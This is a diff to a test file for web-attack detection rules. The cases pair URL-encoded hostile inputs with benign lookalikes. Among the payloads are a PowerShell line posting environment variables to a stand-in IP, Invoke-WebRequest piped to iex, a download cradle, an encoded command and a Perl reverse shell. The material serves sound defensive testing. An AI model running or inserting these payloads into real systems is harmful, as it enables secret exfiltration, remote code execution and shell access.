@@ -46,6 +46,9 @@ const CASES: RuleCase[] = [
   [9001315, 'block', 'a PHP variable function through input', form('x=%24_GET%5B%27f%27%5D(%24_GET%5B%27a%27%5D)'), form('x=%24_GET%5B%27f%27%5D')],
   [9000306, 'suspicious', 'a command substitution at the start of a value', q('host=127.0.0.1%24(id)'), q('price=%2450+(approx)')],
   [9000307, 'block', 'PowerShell -EncodedCommand', q('x=%7Cpowershell+-nop+-enc+SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0'), q('q=powershell+-enc+parameter+meaning')],
+  // rev 2: Invoke-WebRequest only piped into (an exfiltration: `… | Out-String | Invoke-WebRequest -Method Post`) or piped on to IEX; a runbook's download to a file (blind benign set 8's Notion code block) names it alone.
+  [9000308, 'suspicious', 'command output piped into Invoke-WebRequest', form('arg=x%3B+Get-ChildItem+Env%3A+%7C+Out-String+%7C+Invoke-WebRequest+-Method+Post+-Uri+http%3A%2F%2F203.0.113.7%2F'), json('{"children":[{"type":"code","code":{"language":"powershell","rich_text":[{"text":{"content":"Invoke-WebRequest -Uri https://downloads.example.com/agent.msi -OutFile $env:TEMP\\\\agent.msi"}}]}}]}')],
+  [9000308, 'suspicious', 'Invoke-WebRequest piped on to iex', q('c=Invoke-WebRequest%20http%3A%2F%2Fx.test%2Fa.ps1%20%7C%20iex'), q('q=Invoke-WebRequest%20-OutFile%20vs%20Start-BitsTransfer')],
   [9000308, 'suspicious', 'a PowerShell download cradle', form('x=IEX(New-Object+Net.WebClient).DownloadString(%27http%3A%2F%2Fx.test%27)'), form('x=web+client+download+string')],
   [9000309, 'suspicious', 'caret-escaped cmd', q('ip=1%26w%5Eh%5Eo%5Ea%5Em%5Ei'), form('new_password=xE%5ER%5EA9')],
   [9000310, 'suspicious', 'a Perl reverse shell', q('x=perl+-MIO+-e+%27%24c%3Dnew+IO%3A%3ASocket%3A%3AINET(PeerAddr%2C%221.2.3.4%3A80%22)%3BSTDIN-%3Efdopen(%24c%2Cr)%27'), q('q=IO%3A%3ASocket%3A%3AINET+tutorial')],
